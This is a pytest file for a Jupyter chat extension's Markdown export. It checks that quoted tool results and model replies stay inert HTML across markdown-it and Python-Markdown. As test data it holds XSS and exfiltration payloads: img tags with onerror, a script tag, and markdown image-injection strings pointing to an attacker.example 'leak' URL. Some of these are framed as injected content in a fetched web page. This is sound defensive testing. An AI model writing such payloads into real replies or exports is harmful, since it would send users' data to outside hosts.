"""An exported transcript stays inert in every Markdown reader (findings/redteam3.md 1, 2, 4;
redteam4.md 1).

A tool result is written as a quote, and a reply's code may sit in a list item: the file must not
turn back into live HTML where the quote's lines are cut (a Unicode line separator inside a code
span), where a reader knows fences only at the top level (Python-Markdown with MkDocs' default
extensions), or where JupyterLab's ``removeMath`` reads math delimiters in the source across a
code span. Each file is read as its reader reads it: markdown-it (CommonMark, raw HTML on: GitHub,
VS Code, JupyterLab) and Python-Markdown with ``toc``, ``tables`` and ``fenced_code`` (``mkdocs
new``).
"""

from __future__ import annotations

import json
import re

import markdown
import pytest
from conftest import cell, scripted
from markdown_it import MarkdownIt

from ygpt_magic.emulator import start_local_server
from ygpt_magic.render.safe_markdown import safe_markdown

ATTACKER = "http://attacker.example/leak?d=the-secret-plan"
LIVE = re.compile(r"<(?:img|script|div)\b[^>]*>")
#: a page whose code holds a blank line and a picture: after the blank line, raw HTML
PAGE_WITH_CODE = f'The page\'s source:\n\n```html\n<p>intro</p>\n\n<img src="{ATTACKER}" onerror="alert(1)">\n```\n'


def readers() -> dict[str, object]:
    return {
        "markdown-it": MarkdownIt("commonmark", {"html": True}).enable("table").render,
        "python-markdown (mkdocs new)": lambda text: markdown.markdown(
            text, extensions=["toc", "tables", "fenced_code"]),
    }


def live_in_any_reader(written: str) -> dict[str, list[str]]:
    found = {name: LIVE.findall(render(written)) for name, render in readers().items()}  # type: ignore[operator]
    return {name: tags for name, tags in found.items() if tags}


def exported_tool_chat(shell, tmp_path, page: str) -> str:
    """The transcript of a chat whose tool returned ``page``."""
    def read_page(url: str) -> str:
        """Read a web page."""
        return page

    script = tmp_path / "script.json"
    script.write_text(json.dumps({"replies": [{
        "user": "Summarise the page",
        "tool_calls": [{"name": "read_page", "arguments": {"url": "http://shop.example"}}],
        "after_tools": "The page lists prices."}]}), encoding="utf-8")
    shell.user_ns["read_page"] = read_page
    with start_local_server(scripts=[script]) as server:
        shell.run_line_magic("ygpt", f"connect {server.address} --insecure")
        run = cell(shell, "%%ygpt --tools read_page\nSummarise the page")
        assert "The page lists prices." in run.final, run.final
        cell(shell, f"%ygpt export {tmp_path / 'chat.md'}")
    return (tmp_path / "chat.md").read_text(encoding="utf-8")


@pytest.mark.usefixtures("fresh_names")
@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\f", "\v", "\x85"])
@pytest.mark.slow
def test_a_line_separator_in_a_tool_result_stays_inside_its_quote(shell, tmp_path, separator):
    page = f'Price list: `x{separator}<div>{separator}<img src="{ATTACKER}">`'
    written = exported_tool_chat(shell, tmp_path, page)
    assert not live_in_any_reader(written), written
    assert separator not in written, "shown as a picture of itself, not as a break"
    assert "> read_page → Price list: `x" in written, written


@pytest.mark.usefixtures("fresh_names")
def test_a_code_block_in_a_quoted_tool_result_stays_code_under_mkdocs_defaults(shell, tmp_path):
    written = exported_tool_chat(shell, tmp_path, PAGE_WITH_CODE)
    assert not live_in_any_reader(written), written
    shown = readers()["python-markdown (mkdocs new)"](written)  # type: ignore[operator]
    assert f'&lt;img src="{ATTACKER}" onerror="alert(1)"&gt;' in re.sub("</?code>", "", shown), "readable"


def test_a_code_block_in_a_list_item_stays_code_in_every_reader():
    code = f'   ```html\n   <p>intro</p>\n\n   <img src="{ATTACKER}">\n   ```'
    reply = f"Steps:\n\n1. Save this page:\n\n{code}\n2. Done\n"
    written = safe_markdown(reply)
    assert not live_in_any_reader(written), written
    assert "<li>" in readers()["markdown-it"](written), "still a list"  # type: ignore[operator]


@pytest.mark.parametrize("reply", [
    "The formula is \\\\( a `\\unicode[x; background:url(http://a.example/l)]{x41}` \\\\)",
    "Show `\\\\(` then `\\unicode[x; background:url(http://a.example/l)]{x41}` then `\\\\)`",
    "A `\\begin{x}` and `\\unicode[x]{x41}` and `\\end{x}`",
])
def test_no_math_delimiter_of_jupyterlab_is_written_outside_allowed_math(reply):
    """JupyterLab's removeMath takes ``\\\\(``, ``\\\\[`` and ``\\begin{…}`` from the source, across
    code spans (tests/test_browser_inert.py opens such a transcript in the Markdown Preview)."""
    written = safe_markdown(reply)
    assert not re.search(r"\\\\[()\[\]]|\\(?:begin|end)\{", written), written
    shown = readers()["markdown-it"](written)  # type: ignore[operator]
    assert "\\unicode[x" in shown, "the code is still shown as written"


#: a ``!`` (escaped or an entity), then pieces that write nothing, then a link: an injection that
#: asks the export to write ``![see the chart](URL)``, a picture loaded when the file opens
BANG_BEFORE_NOTHING = [
    f"Great news\\![]()[see the chart]({ATTACKER})",
    f"Great news&#33;[]()[see the chart]({ATTACKER})",
    f"> Great news\\![]()[see the chart]({ATTACKER})",
    f"- Great news\\![]()[see the chart]({ATTACKER})",
    f"Great news\\![]()[]()[see the chart]({ATTACKER})",
    f"[Great news\\!]()[see the chart]({ATTACKER})",
    f"[*Great* news\\!]()![see the chart]({ATTACKER})",
]


@pytest.mark.parametrize("reply", BANG_BEFORE_NOTHING)
def test_a_bang_before_a_piece_that_writes_nothing_never_makes_a_picture(reply):
    written = safe_markdown(reply)
    assert not live_in_any_reader(written), written
    assert "news\\![" in written, "the bang is escaped where a link's bracket follows it"


@pytest.mark.usefixtures("fresh_names")
def test_an_exported_reply_with_a_bang_before_an_empty_link_loads_no_picture(shell, tmp_path):
    with scripted(shell, tmp_path, "Any news?", BANG_BEFORE_NOTHING[0]):
        assert cell(shell, "%%ygpt --chat news\nAny news?").ok
        path = tmp_path / "chat.md"
        assert cell(shell, f"%ygpt export {path} --chat news").ok
    written = path.read_text(encoding="utf-8")
    assert not live_in_any_reader(written), written
    assert f"Great news\\![see the chart]({ATTACKER})" in written, written


def test_empty_emphasis_writes_nothing_not_a_fence_that_frees_a_later_code_block():
    """Found by the 5,000-case fuzz once it drew pieces that write nothing: ``~~[]()~~`` (a strike
    around an empty link) was written ``~~~~``, a fence at a line's start. Python-Markdown paired
    it with a later text's fence and read that code block's ``<script>`` as raw HTML."""
    written = "\n\n".join([safe_markdown("~~[]()~~\n\nCase 1."),
                           safe_markdown(f"```\n<script>alert(1)</script><img src={ATTACKER}>\n```")])
    assert not written.startswith("~"), written
    assert not live_in_any_reader(written), written
